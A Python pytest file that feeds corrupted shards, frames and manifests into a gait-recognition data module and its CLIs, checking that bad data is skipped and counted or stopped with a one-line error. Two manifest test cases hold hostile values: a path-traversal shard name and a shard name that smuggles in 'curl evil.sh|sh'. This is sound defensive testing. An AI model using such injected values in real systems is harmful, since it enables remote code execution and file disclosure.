"""Fault injection: broken and hostile shards, frames and manifests through the real DataModule and CLIs.

Every case either trains on with the bad part counted (the batches' `n_skipped`, logged as `data/skipped`)
or stops with one error line naming the field or file; none crashes (docs/reliability.md).
"""

from __future__ import annotations

import json
import math
import shutil
import struct
import subprocess
import sys
import warnings
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
import webdataset as wds

from biggait.data import GaitDataModule, SequenceRecord
from biggait.data.pipeline import BadDataWarning, iter_shard
from biggait.data.shards import encode_record
from biggait.errors import CorruptDataError, DatasetNotFoundError, one_line
from test_data_datamodule import datamodule as tiny_datamodule  # tests/ is on sys.path (rootdir conftest)
from test_reliability import RUN

ROOT = Path(__file__).resolve().parents[1]


# --- injecting faults into a copy of the tiny CCPG-style shard set (64x32 PNG frames, 6 per sequence) -------
def copy_shards(tiny_shards: Path, tmp_path: Path) -> Path:
    root = tmp_path / "data"
    shutil.copytree(tiny_shards, root)
    return root


def rewrite_first_sample(tar: Path, mutate: Callable[[str, dict], dict]) -> None:
    """Replace the first sample of `tar` by `mutate(key, fields)`; the sample count stays the same."""
    samples = list(iter_shard(str(tar)))
    samples[0] = (samples[0][0], mutate(*samples[0]))
    with open(tar, "wb") as stream, wds.TarWriter(stream, encoder=False) as writer:
        for key, fields in samples:
            writer.write({"__key__": key, **fields})


def every_shard(root: Path, mutate: Callable[[str, dict], dict]) -> None:
    for i, tar in enumerate(sorted(root.glob("*/*.tar"))):
        rewrite_first_sample(tar, lambda key, fields, i=i: mutate(key, fields, i))


def _png(width: int, height: int) -> bytes:
    """A small PNG whose header declares width x height pixels (the data does not need to match)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def truncate_shards(root: Path, every: int = 1) -> None:
    for tar in sorted(root.glob("*/*.tar"))[::every]:
        data = tar.read_bytes()
        tar.write_bytes(data[: int(len(data) * 0.6)])


def flip_frame_bytes(key: str, fields: dict, i: int) -> dict:
    frame = bytearray(fields["f0001.png"])
    for j in range(len(frame) // 2, len(frame) // 2 + 16):
        frame[j] ^= 0xFF
    return fields | {"f0001.png": bytes(frame)}


def oversized_header(key: str, fields: dict, i: int) -> dict:
    """40000 x 40000 declared: cv2.imdecode raises cv2.error (or allocates gigabytes at 20000 x 20000)."""
    return fields | {"f0000.png": _png(40000, 40000)}


def odd_size_sample(key: str, fields: dict, i: int) -> dict:
    """Frames and meta.json agree (32x16) but the manifest says 64x32."""
    meta = json.loads(fields["meta.json"])
    rng = np.random.default_rng(i)
    record = SequenceRecord(
        meta["subject"],
        meta["type"],
        meta["view"],
        rng.integers(0, 255, (meta["n_frames"], 32, 16, 3), dtype=np.uint8),
        np.full(meta["n_frames"], 0.5, np.float32),
        np.zeros((meta["n_frames"], 32, 16), np.uint8),
    )
    return {k: v for k, v in encode_record(record, key).items() if k != "__key__"}


def bad_ratios(key: str, fields: dict, i: int) -> dict:
    values = [math.nan, math.inf, -0.5, 0.0]
    meta = json.loads(fields["meta.json"])
    meta["ratios"][i % len(meta["ratios"])] = values[i % len(values)]
    return fields | {"meta.json": json.dumps(meta).encode()}  # json writes NaN / Infinity


SAMPLE_FAULTS = {
    "flipped_frame_bytes": flip_frame_bytes,
    "oversized_image_header": oversized_header,
    "odd_size_sample": odd_size_sample,
    "bad_ratios": bad_ratios,
}
DATA_FAULTS = {name: (lambda root, m=mutate: every_shard(root, m)) for name, mutate in SAMPLE_FAULTS.items()}
DATA_FAULTS["truncated_tar"] = truncate_shards


def all_faults(root: Path) -> None:
    """Shard j gets sample fault j mod 4 in its first sample; every third shard is then truncated too."""
    faults = list(SAMPLE_FAULTS.values())
    for j, tar in enumerate(sorted(root.glob("*/*.tar"))):
        rewrite_first_sample(tar, lambda key, fields, j=j: faults[j % len(faults)](key, fields, j))
    truncate_shards(root, every=3)


def datamodule(root: Path) -> GaitDataModule:
    return tiny_datamodule(root, frames_per_sequence=4, eval_batch_size=4, load_silhouettes=True)


@pytest.mark.parametrize("fault", sorted(DATA_FAULTS))
def test_data_faults_train_and_evaluate_on_with_the_bad_part_counted(
    fault: str, tiny_shards: Path, tmp_path: Path
) -> None:
    root = copy_shards(tiny_shards, tmp_path)
    DATA_FAULTS[fault](root)
    dm = datamodule(root)
    dm.setup("fit")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        train_skipped = 0
        loader = dm.train_dataloader()
        for _, batch in zip(range(8), loader):
            assert batch["frames"].shape[1:] == (4, 3, 64, 32)
            assert torch_finite_positive(batch["ratios"])
            train_skipped += int(batch["n_skipped"])
        evaluated, eval_skipped = 0, 0
        for batch in dm.test_dataloader():
            assert batch["frames"].shape[-2:] == (64, 32)
            assert torch_finite_positive(batch["ratios"])
            evaluated += len(batch["subjects"])
            eval_skipped += int(batch["n_skipped"])
    messages = [str(w.message) for w in caught if issubclass(w.category, BadDataWarning)]
    assert train_skipped > 0 and eval_skipped > 0, messages
    # every sequence of the test set is either evaluated or counted as skipped
    expected = sum(s["n_samples"] for s in dm.manifest("test")["shards"])
    assert evaluated + eval_skipped == expected
    assert all("\n" not in m for m in messages)


def torch_finite_positive(ratios) -> bool:
    return bool((ratios.isfinite() & (ratios > 0)).all())


# --- manifests ----------------------------------------------------------------------------------------------
def _edit_manifest(root: Path, edit: Callable[[dict], None], split: str = "train") -> None:
    path = root / split / "manifest.json"
    manifest = json.loads(path.read_text())
    edit(manifest)
    path.write_text(json.dumps(manifest))


def _phantom_subjects(m: dict) -> None:
    first = next(iter(m["sequences_per_subject"]))
    m["sequences_per_subject"][first] -= 1  # the totals still add up
    m["sequences_per_subject"]["phantom"] = 1
    m["n_subjects"] += 1


def _understated(m: dict) -> None:
    m["shards"][0]["n_samples"] -= 1
    m["n_sequences"] -= 1
    first = next(iter(m["sequences_per_subject"]))
    m["sequences_per_subject"][first] -= 1


MANIFEST_FAULTS = {
    "negative_n_samples": (lambda m: m["shards"][0].update(n_samples=-5), r"shards\[0\]\.n_samples"),
    "shards_not_a_list": (lambda m: m.update(shards="oops"), r"field shards "),
    "phantom_subjects": (_phantom_subjects, r"sequences_per_subject\['phantom'\]"),
    "understated_count": (_understated, r"shards\[0\]\.n_samples"),
    "frame_size_type": (lambda m: m.update(frame_size="64x32"), r"field frame_size"),
    "inflated_subject_count": (
        lambda m: m["sequences_per_subject"].update({f"x{i}": 1 for i in range(500)}),
        r"sequences_per_subject",
    ),
    "shard_name_with_path": (
        lambda m: m["shards"][0].update(name="../../etc/passwd.tar"),
        r"shards\[0\]\.name",
    ),
    # joined into a pipe: command for a remote root (docs/1_data.md): only plain file names are accepted
    "shard_name_shell_command": (
        lambda m: m["shards"][0].update(name="x;curl evil.sh|sh;.tar"),
        r"shards\[0\]\.name",
    ),
}


@pytest.mark.parametrize("fault", sorted(MANIFEST_FAULTS))
def test_bad_manifest_fields_are_one_error_naming_the_field(
    fault: str, tiny_shards: Path, tmp_path: Path
) -> None:
    root = copy_shards(tiny_shards, tmp_path)
    edit, field = MANIFEST_FAULTS[fault]
    _edit_manifest(root, edit)
    with pytest.raises(CorruptDataError, match=field) as info:
        datamodule(root).setup("fit")
    assert "\n" not in str(info.value) and "manifest.json" in str(info.value)


def test_understated_count_without_sidecars_stops_when_read(tiny_shards: Path, tmp_path: Path) -> None:
    """No sidecar to check against: the reader finds the extra sample and names the manifest field, in one
    line also when the error comes back from a data-loader worker process."""
    root = copy_shards(tiny_shards, tmp_path)
    for sidecar in (root / "train").glob("tiny-train-*.json"):
        sidecar.unlink()
    _edit_manifest(root, _understated)
    dm = datamodule(root)
    dm.hparams.num_workers = 1
    dm.setup("fit")
    with pytest.raises(CorruptDataError) as info:
        for _ in zip(range(50), dm.train_dataloader()):
            pass
    assert "DataLoader worker" in str(info.value)  # torch re-raises it with the worker's traceback ...
    message = one_line(info.value)  # ... which the CLIs' `error:` line leaves out
    assert "\n" not in message and "shards[].n_samples" in message and "tiny-train-000000.tar" in message


def test_missing_shard_is_one_error(tiny_shards: Path, tmp_path: Path) -> None:
    root = copy_shards(tiny_shards, tmp_path)
    (root / "test" / "tiny-test-000002.tar").unlink()
    with pytest.raises(DatasetNotFoundError, match="tiny-test-000002.tar"):
        datamodule(root).manifest("test")


# --- the CLIs -----------------------------------------------------------------------------------------------
TINY_RUN = [*RUN, "trainer.accelerator=cpu"]


def run_cli(module: str, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    import os

    return subprocess.run(
        [sys.executable, "-m", module, *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=600,
        env=os.environ | {"WANDB_MODE": "disabled", "HF_HUB_OFFLINE": "1"} | (env or {}),
    )


def assert_one_error_line(proc: subprocess.CompletedProcess, pattern: str) -> None:
    assert proc.returncode == 2, proc.stderr[-3000:]
    errors = [line for line in proc.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "Traceback" not in proc.stderr, proc.stderr[-3000:]
    assert pytest.importorskip("re").search(pattern, errors[0]), errors[0]


@pytest.mark.slow
def test_train_cli_trains_on_over_every_data_fault_and_reports_it(tiny_shards: Path, tmp_path: Path) -> None:
    root = copy_shards(tiny_shards, tmp_path)
    all_faults(root)
    out = tmp_path / "run"
    proc = run_cli(
        "biggait.train",
        *TINY_RUN,
        "logger=csv",
        f"data.root={root}",
        f"paths.output_dir={out}",
        f"hydra.run.dir={out}",
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    csv = next((out / "csv").rglob("metrics.csv")).read_text().splitlines()
    header = csv[0].split(",")
    column = header.index("data/skipped")
    skipped = sum(float(row.split(",")[column]) for row in csv[1:] if row.split(",")[column])
    assert skipped > 0
    results = json.loads(next((out / "evaluation").glob("test-step*/results.json")).read_text())
    assert results["partial"] is True and results["counts"]["sequences_skipped"] > 0
    assert results["counts"]["sequences"] + results["counts"]["sequences_skipped"] == 56
    assert "PARTIAL EVALUATION" in proc.stdout


@pytest.mark.slow
@pytest.mark.parametrize("fault", ["negative_n_samples", "shards_not_a_list", "missing_shard"])
def test_train_cli_stops_with_one_line_on_a_bad_manifest(
    fault: str, tiny_shards: Path, tmp_path: Path
) -> None:
    root = copy_shards(tiny_shards, tmp_path)
    if fault == "missing_shard":
        (root / "train" / "tiny-train-000001.tar").unlink()
        pattern = "tiny-train-000001.tar"
    else:
        edit, pattern = MANIFEST_FAULTS[fault]
        _edit_manifest(root, edit)
    out = tmp_path / "run"
    proc = run_cli(
        "biggait.train",
        *TINY_RUN,
        "logger=none",
        f"data.root={root}",
        f"paths.output_dir={out}",
        f"hydra.run.dir={out}",
    )
    assert_one_error_line(proc, pattern)
